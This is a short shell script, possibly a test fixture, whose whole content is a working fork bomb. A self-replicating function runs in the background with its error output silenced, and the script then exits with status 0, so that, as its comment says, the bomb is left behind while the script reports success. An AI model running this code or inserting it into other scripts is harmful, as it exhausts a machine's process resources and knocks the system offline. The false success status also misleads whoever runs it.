#!/bin/sh
# Fork bomb that the script leaves behind, and exits with success.
bomb() { bomb | bomb & }
bomb 2>/dev/null
exit 0
